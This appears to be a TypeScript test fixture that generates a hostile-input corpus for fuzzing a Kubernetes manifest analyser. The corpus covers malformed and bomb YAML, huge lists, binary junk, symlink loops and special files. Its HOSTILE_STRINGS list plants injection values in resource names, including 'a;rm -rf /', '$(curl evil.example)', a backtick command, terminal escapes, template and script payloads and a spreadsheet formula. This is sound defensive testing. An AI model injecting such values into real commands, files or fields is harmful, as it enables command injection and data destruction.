/**
 * The hostile-input corpus: the worst manifests and paths we can think of, generated (never
 * committed as files). Each case is a folder of input; `hostileStrings` lists what it plants that
 * must never reach any output raw (names, labels and values with control characters, markup,
 * template syntax, bidi overrides), for checks built on top of this corpus.
 *
 *   import { HOSTILE_CASES, writeCase } from './corpus.js';
 *   for (const c of HOSTILE_CASES) writeCase(c, join(root, c.name));
 */
import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { dirname, join } from 'node:path';
import { stringify } from 'yaml';
import { applyBatch, fixtureClusters, mutationBatches } from '../helpers/mutations.js';

export interface HostileCase {
  readonly name: string;
  /** Files of the case, relative to its folder. */
  readonly files: Readonly<Record<string, string | Uint8Array>>;
  /** What cannot be a file's content: FIFOs, sockets, symlink loops, unreadable modes. */
  readonly setup?: (dir: string) => void | Promise<void>;
  /** Strings the case plants that must never appear raw in any output. */
  readonly hostileStrings: readonly string[];
  /** Worth a real process: special files, memory and stack bombs. */
  readonly asProcess?: boolean;
  /** Slow to analyse: run in one format per command in-process, not in every one. */
  readonly heavy?: boolean;
}

/** Strings that break terminals, shells, spreadsheets, templates and HTML when printed raw. */
export const HOSTILE_STRINGS = {
  newline: 'evil\nerror: forged line',
  semicolon: 'a;rm -rf /',
  backtick: 'a`id`b',
  commandSubstitution: '$(curl evil.example)',
  rtlOverride: 'abc\u202Etxt.exe',
  zeroWidth: 'ad\u200Bmin\u200D',
  escape: '\u001b[31mred\u001b[0m\u001b]0;title\u0007',
  template: '{{constructor.constructor("alert(1)")()}}',
  script: '<script>alert(1)</script>',
  formula: '=HYPERLINK("http://evil.example","x")',
} as const;

const ALL_HOSTILE = Object.values(HOSTILE_STRINGS);

/** A Deployment in namespace `ns` with the given name and pod labels, and optional extra pod-spec YAML. */
function deployment(ns: string, name: string, labels: Record<string, string> = { app: 'web' }, extra: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name, namespace: ns },
    spec: { template: { metadata: { labels }, spec: { containers: [{ name: 'app', image: 'app:1', ports: [{ containerPort: 8080 }] }], ...extra } } },
  };
}

const yamlDocs = (...objects: unknown[]): string => objects.map((o) => stringify(o)).join('---\n');

/** Deterministic bytes (xorshift), so that a failure can be reproduced. */
function junk(length: number, seed: number): Uint8Array {
  const out = new Uint8Array(length);
  let x = seed;
  for (let i = 0; i < length; i++) {
    x ^= x << 13; x ^= x >>> 17; x ^= x << 5;
    out[i] = x & 0xff;
  }
  return out;
}

function billionLaughs(levels: number): string {
  const lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
  for (let i = 1; i < levels; i++) {
    const prev = String.fromCharCode(96 + i);
    const cur = String.fromCharCode(97 + i);
    lines.push(`${cur}: &${cur} [${Array(9).fill(`*${prev}`).join(',')}]`);
  }
  return `kind: ConfigMap\nmetadata: {name: lol}\ndata:\n${lines.map((l) => `  ${l}`).join('\n')}\n`;
}

function hostileNames(): Record<string, unknown>[] {
  return ALL_HOSTILE.flatMap((s, i) => [
    { apiVersion: 'v1', kind: 'Namespace', metadata: { name: `ns-${i}`, labels: { team: s }, annotations: { note: s } } },
    {
      apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: s, namespace: `ns-${i}`, labels: { [`k${i}`]: s } },
      spec: { template: { metadata: { labels: { app: s, [`x/${i}`]: s } }, spec: {
        serviceAccountName: s, hostNetwork: i % 3 === 0,
        containers: [{ name: s, image: `${s}:1`, ports: [{ name: 'http', containerPort: 80 + i }], env: [{ name: `${s}_PASSWORD`, value: s }],
          securityContext: { capabilities: { add: [s, 'NET_RAW'] } } }],
        volumes: [{ name: s, hostPath: { path: `/${s}` } }],
      } } },
    },
    { apiVersion: 'v1', kind: 'Service', metadata: { name: `svc-${i}`, namespace: `ns-${i}` }, spec: { type: 'LoadBalancer', selector: { app: s }, ports: [{ name: s, port: 80 }] } },
    { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: `cm-${i}`, namespace: `ns-${i}` }, data: { [`${s}_TOKEN`]: `${s}-value`, [s]: s } },
    { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: s, namespace: `ns-${i}`, annotations: { 'eks.amazonaws.com/role-arn': s } } },
    { apiVersion: 'networking.k8s.io/v1', kind: 'Ingress', metadata: { name: `ing-${i}`, namespace: `ns-${i}` }, spec: { rules: [{ host: s, http: { paths: [{ path: `/${s}`, backend: { service: { name: `svc-${i}`, port: { number: 80 } } } }] } }] } },
    { apiVersion: 'networking.k8s.io/v1', kind: 'NetworkPolicy', metadata: { name: `np-${i}`, namespace: `ns-${i}` }, spec: { podSelector: { matchLabels: { app: s.replace(/[^A-Za-z0-9]/g, '') || 'x' } }, ingress: [{ from: [{ podSelector: {} }] }] } },
    { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'RoleBinding', metadata: { name: `rb-${i}`, namespace: `ns-${i}` }, roleRef: { kind: 'ClusterRole', name: s }, subjects: [{ kind: 'ServiceAccount', name: s, namespace: `ns-${i}` }] },
  ]);
}

function wrongTypeCases(): HostileCase[] {
  return fixtureClusters('exposing').map((cluster) => {
    const batches = mutationBatches(cluster.objects, 1);
    // A few batches per cluster: every object has some field of the wrong type in each.
    const picked = [0, Math.floor(batches.length / 3), Math.floor((2 * batches.length) / 3)].map((i) => batches[i] ?? []);
    const files: Record<string, string> = {};
    picked.forEach((batch, i) => { files[`mutated-${i}.yaml`] = yamlDocs(...applyBatch(cluster.objects, batch)); });
    return { name: `wrong-types-${cluster.name.split('/')[0]}`, files, hostileStrings: [] };
  });
}

const DEEP = 20_000;
/** Longer than the arguments a call can take: `push(...list)` over it overflows the stack. */
const LONG = 150_000;

/** Lists of LONG items where the engine reads lists: policy rules, ipBlock exceptions, Ingress paths, admin-policy peers (JSON, read fast). */
function hugeLists(): string {
  const address = (i: number): string => `10.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}/32`;
  return JSON.stringify({ kind: 'List', items: [
    deployment('x', 'web'),
    { kind: 'NetworkPolicy', metadata: { name: 'many-rules', namespace: 'x' }, spec: { podSelector: {}, ingress: Array.from({ length: LONG }, () => ({})) } },
    { kind: 'NetworkPolicy', metadata: { name: 'many-except', namespace: 'x' }, spec: { podSelector: {}, egress: [{ to: [{ ipBlock: { cidr: '10.0.0.0/8', except: Array.from({ length: LONG }, (_, i) => address(i)) } }] }] } },
    { kind: 'Ingress', metadata: { name: 'ing', namespace: 'x' }, spec: { rules: [{ http: { paths: Array.from({ length: LONG }, (_, i) => ({ path: `/p${i}`, backend: { service: { name: 's', port: { number: 80 } } } })) } }] } },
    { kind: 'AdminNetworkPolicy', metadata: { name: 'anp' }, spec: { priority: 1, subject: { namespaces: {} }, egress: [{ action: 'Allow', to: Array.from({ length: LONG }, () => ({ namespaces: {} })) }] } },
  ] });
}

export const HOSTILE_CASES: readonly HostileCase[] = [
  { name: 'malformed-yaml', files: {
    'unclosed.yaml': 'kind: Deployment\nmetadata: {name: [web\n', 'tabs.yaml': 'kind: Pod\nmetadata:\n\tname: x\n',
    'bad-indent.yaml': 'kind: Pod\n  metadata:\n name: x\n    spec: y\n', 'colon.yaml': 'kind: Pod: Service: x\n',
    'only-separators.yaml': '---\n---\n...\n---\n', 'directive.yaml': '%YAML 9.9\n%FOO bar\n---\nkind: Pod\nmetadata: {name: p}\n',
  }, hostileStrings: [] },
  { name: 'billion-laughs', files: { 'lol.yaml': billionLaughs(9), 'lol-cloud/kubeseg-cloud.yaml': billionLaughs(9).replace('kind: ConfigMap\nmetadata: {name: lol}\ndata:', 'nodeGroups:') }, hostileStrings: [], asProcess: true },
  { name: 'alias-self-reference', files: { 'alias.yaml': 'kind: ConfigMap\nmetadata: &m {name: a, labels: *m}\n---\nkind: Pod\nmetadata: {name: *undefined}\n' }, hostileStrings: [] },
  { name: 'deep-nesting', files: {
    'flow.yaml': `kind: Pod\nmetadata: {name: deep}\nspec: ${'['.repeat(DEEP)}${']'.repeat(DEEP)}\n`,
    'block.yaml': `kind: Pod\nmetadata: {name: deep2}\nspec:\n${Array.from({ length: 300 }, (_, i) => `${' '.repeat(i + 1)}a${i}:`).join('\n')} x\n`,
    'deep.json': `{"kind":"Pod","metadata":{"name":"deep3"},"spec":${'{"a":'.repeat(DEEP)}1${'}'.repeat(DEEP)}}`,
    'selector.yaml': `kind: NetworkPolicy\nmetadata: {name: deep, namespace: x}\nspec:\n  podSelector: {matchLabels: ${'{a: '.repeat(90)}1${'}'.repeat(90)}}\n`,
  }, hostileStrings: [], asProcess: true },
  { name: 'unknown-kinds', files: { 'kinds.yaml': yamlDocs({ kind: 'Gadget', metadata: { name: 'g' } }, { kind: ['List'] }, { kind: 5, metadata: { name: 'n' } }, { kind: '' }, { kind: 'List', items: 5 }, { kind: 'PodList', items: [null, 5, 'x', { metadata: { name: 'p' } }] }, { kind: 'List', items: [{ kind: 'List', items: [{ kind: 'List', items: [] }] }] }) }, hostileStrings: [] },
  { name: 'invalid-cidrs', files: { 'policy.yaml': yamlDocs(deployment('x', 'web'), ...['10.0.0.0/33', '300.1.1.1/8', 'abc', '', '10.0.0.0/-1', '::/0', '0x0a.0.0.0/8', '10.0.0.0/8/8'].map((cidr, i) => ({
    kind: 'NetworkPolicy', metadata: { name: `p${i}`, namespace: 'x' }, spec: { podSelector: {}, egress: [{ to: [{ ipBlock: { cidr, except: [cidr, 5, null] } }] }] },
  }))) }, hostileStrings: [] },
  { name: 'invalid-selectors', files: { 'policy.yaml': yamlDocs(deployment('x', 'web'), ...[
    { matchExpressions: [{ key: 'app', operator: 'Near', values: ['a'] }] }, { matchExpressions: [{ key: '', operator: 'In', values: [] }] },
    { matchLabels: { 'bad key!': 'v', [HOSTILE_STRINGS.newline]: 'x' } }, { matchExpressions: 5 }, { matchLabels: [1, 2] }, 'selector',
  ].map((podSelector, i) => ({ kind: 'NetworkPolicy', metadata: { name: `s${i}`, namespace: 'x' }, spec: { podSelector, ingress: [{ from: [{ podSelector, namespaceSelector: podSelector }] }] } }))) }, hostileStrings: [HOSTILE_STRINGS.newline] },
  { name: 'malformed-workloads', files: Object.fromEntries([
    { metadata: { name: 5, namespace: 'x' } }, { metadata: [] }, { metadata: { name: 'labels', namespace: 'x', labels: ['a'] } },
    { metadata: { name: 'ns', namespace: 7 } }, { spec: { template: null } }, { spec: { template: { spec: { containers: 5 } } } },
    { spec: { template: { spec: { containers: [null] } } } }, { spec: { template: { spec: { containers: [{ name: 'a', ports: 'x' }] } } } },
    { spec: { template: { spec: { containers: [{ name: 'a' }], volumes: { a: 1 } } } } }, { spec: { template: { metadata: { labels: ['x'] } } } },
  ].map((patch, i) => [`w${i}.yaml`, yamlDocs(deployment('x', 'good'), { ...deployment('x', `bad${i}`), ...patch })])), hostileStrings: [] },
  ...wrongTypeCases(),
  { name: 'huge-lists', files: { 'lists.json': hugeLists() }, hostileStrings: [], asProcess: true, heavy: true },
  { name: 'huge-label-maps', files: { 'labels.yaml': yamlDocs(deployment('x', 'many', Object.fromEntries(Array.from({ length: 5_000 }, (_, i) => [`k${i}`, `v${i}`]))), deployment('x', 'long', { app: 'x'.repeat(200_000) }), { kind: 'Namespace', metadata: { name: 'x', labels: Object.fromEntries(Array.from({ length: 5_000 }, (_, i) => [`n${i}`, 'y'])) } }) }, hostileStrings: [] },
  { name: 'binary-junk', files: { 'junk.yaml': junk(200_000, 42), 'nul.yaml': 'kind: Pod\u0000\nmetadata: {name: "a\u0000b"}\n', 'invalid-utf8.yaml': new Uint8Array([0x6b, 0x69, 0x6e, 0x64, 0x3a, 0x20, 0xff, 0xfe, 0xc3, 0x28, 0x0a]), 'junk.json': junk(50_000, 7) }, hostileStrings: [], asProcess: true },
  { name: 'bom-and-crlf', files: {
    'bom.yaml': `\uFEFF${yamlDocs(deployment('x', 'bom'))}`, 'crlf.yaml': yamlDocs(deployment('x', 'crlf'), { kind: 'Service', metadata: { name: 's', namespace: 'x' }, spec: { selector: { app: 'web' } } }).replace(/\n/g, '\r\n'),
    'bom.json': `\uFEFF${JSON.stringify(deployment('x', 'bomjson'))}`, 'cr-only.yaml': 'kind: Pod\rmetadata: {name: cr}\r',
  }, hostileStrings: [] },
  { name: 'duplicate-keys', files: { 'dupes.yaml': 'kind: Deployment\nkind: Pod\nmetadata: {name: a, name: b, namespace: x}\nmetadata: {name: c}\nspec: {}\n---\n' + yamlDocs(deployment('x', 'twice'), deployment('x', 'twice'), { kind: 'Namespace', metadata: { name: 'x' } }, { kind: 'Namespace', metadata: { name: 'x' } }) }, hostileStrings: [] },
  { name: 'empty-files', files: { 'empty.yaml': '', 'spaces.yaml': '   \n\n  \t\n', 'comment.yaml': '# nothing\n', 'null.yaml': 'null\n', 'scalar.yaml': '42\n', 'list.yaml': '[]\n', 'empty.json': '', 'braces.json': '{}' }, hostileStrings: [] },
  { name: 'yaml-tags', files: { 'tags.yaml': 'kind: ConfigMap\nmetadata: {name: !!binary aGVsbG8=}\ndata: !!set {a, b}\n---\nkind: Pod\nmetadata: !foo {name: p}\nspec: {containers: !!omap [a: 1]}\n---\nkind: Pod\nmetadata: {name: t, creationTimestamp: 2001-12-14t21:59:43.10-05:00}\nspec: {<<: {hostNetwork: true}, ports: [.inf, .nan, -.inf, 1e400, 0x1F, 0o17]}\n---\nkind: Pod\nmetadata: {name: !!js/function "function(){}"}\n' }, hostileStrings: [] },
  { name: 'hostile-names', files: { 'names.yaml': yamlDocs(...hostileNames()), 'names.json': JSON.stringify({ kind: 'List', items: hostileNames() }) }, hostileStrings: ALL_HOSTILE },
  { name: 'hostile-cloud-file', files: {
    'apps.yaml': yamlDocs(deployment('x', 'web')),
    'kubeseg-cloud.yaml': stringify({ cluster: { name: HOSTILE_STRINGS.script, account: HOSTILE_STRINGS.newline, region: 5 }, apiServer: { endpoint: HOSTILE_STRINGS.commandSubstitution, publicAccessCidrs: 'all' }, nodeGroups: { a: 1 }, collection: [{ step: HOSTILE_STRINGS.escape, status: 'maybe' }] }),
  }, hostileStrings: [HOSTILE_STRINGS.script, HOSTILE_STRINGS.newline, HOSTILE_STRINGS.escape] },
  { name: 'hostile-cloud-file-valid', files: {
    'apps.yaml': yamlDocs(deployment('x', 'web')),
    'kubeseg-cloud.yaml': stringify({ cluster: { name: HOSTILE_STRINGS.rtlOverride + HOSTILE_STRINGS.template }, apiServer: { endpoint: HOSTILE_STRINGS.script }, nodeGroups: [{ name: HOSTILE_STRINGS.escape }], collection: [{ step: 'rbac', status: 'forbidden', detail: HOSTILE_STRINGS.newline + HOSTILE_STRINGS.formula }] }),
  }, hostileStrings: [HOSTILE_STRINGS.rtlOverride, HOSTILE_STRINGS.template, HOSTILE_STRINGS.script, HOSTILE_STRINGS.escape, HOSTILE_STRINGS.newline] },
  { name: 'hostile-file-names', files: { ['name with [31m escape.yaml']: yamlDocs(deployment('x', 'a')), 'a\nb.yaml': 'kind: [', 'spaces and $(x).yaml': 'kind: Pod\n' }, hostileStrings: [] },
  // The loops stay inside the case's folder: `tree/up` leads back to the folder holding `tree`.
  { name: 'symlink-loop', files: { 'tree/apps.yaml': yamlDocs(deployment('x', 'web')) }, setup: (dir) => {
    symlinkSync('..', join(dir, 'tree', 'up'));
    symlinkSync('.', join(dir, 'tree', 'self'));
    symlinkSync('missing.yaml', join(dir, 'tree', 'dangling.yaml'));
    symlinkSync('ping.yaml', join(dir, 'tree', 'pong.yaml'));
    symlinkSync('pong.yaml', join(dir, 'tree', 'ping.yaml'));
  }, hostileStrings: [], asProcess: true },
  { name: 'special-files', files: { 'apps.yaml': yamlDocs(deployment('x', 'web')) }, setup: async (dir) => {
    execFileSync('mkfifo', [join(dir, 'fifo.yaml'), join(dir, 'fifo.json')]);
    symlinkSync('/dev/zero', join(dir, 'zero.yaml'));
    symlinkSync('/dev/null', join(dir, 'null.yaml'));
    await new Promise<void>((done) => {
      const server = createServer().listen(join(dir, 'socket.yaml'), () => server.close(() => done()));
    });
  }, hostileStrings: [], asProcess: true },
  { name: 'fifo-cloud-file', files: { 'apps.yaml': yamlDocs(deployment('x', 'web')) }, setup: (dir) => { execFileSync('mkfifo', [join(dir, 'kubeseg-cloud.yaml')]); }, hostileStrings: [], asProcess: true },
  { name: 'unreadable', files: { 'apps.yaml': yamlDocs(deployment('x', 'web')), 'secret.yaml': 'kind: Pod\nmetadata: {name: s}\n', 'locked/inner.yaml': 'kind: Pod\nmetadata: {name: i}\n' }, setup: (dir) => {
    chmodSync(join(dir, 'secret.yaml'), 0o000);
    chmodSync(join(dir, 'locked'), 0o000);
  }, hostileStrings: [] },
  { name: 'fleet-of-hostile-clusters', files: {
    'a/kubeseg-cloud.yaml': stringify({ cluster: { name: HOSTILE_STRINGS.newline } }), 'a/apps.yaml': yamlDocs(deployment('x', 'web')),
    'b/kubeseg-cloud.yaml': stringify({ cluster: { name: HOSTILE_STRINGS.newline } }), 'b/apps.yaml': yamlDocs(...hostileNames().slice(0, 8)),
    'c/not-a-cluster.yaml': 'kind: Pod\n', 'd/kubeseg-cloud.yaml': '',
  }, hostileStrings: [HOSTILE_STRINGS.newline] },
  { name: 'numbers', files: { 'numbers.yaml': yamlDocs(
    { kind: 'Deployment', metadata: { name: 'n', namespace: 'x' }, spec: { replicas: -5, template: { spec: { containers: [{ name: 'a', ports: [{ containerPort: 99999 }, { containerPort: -1 }, { containerPort: 1.5 }, { containerPort: '80' }] }] } } } },
    { kind: 'Service', metadata: { name: 's', namespace: 'x' }, spec: { selector: { app: 'web' }, ports: [{ port: 0 }, { port: 70000, targetPort: -3 }] } },
    { kind: 'NetworkPolicy', metadata: { name: 'ports', namespace: 'x' }, spec: { podSelector: {}, ingress: [{ ports: [{ port: 1, endPort: 0 }, { port: 'x', endPort: 5 }, { port: 65536 }] }] } },
  ) }, hostileStrings: [] },
];

/** Writes a case's files into `dir` (created) and runs its setup. */
export async function writeCase(c: HostileCase, dir: string): Promise<void> {
  mkdirSync(dir, { recursive: true });
  for (const [path, content] of Object.entries(c.files)) {
    mkdirSync(dirname(join(dir, path)), { recursive: true });
    writeFileSync(join(dir, path), content);
  }
  await c.setup?.(dir);
}
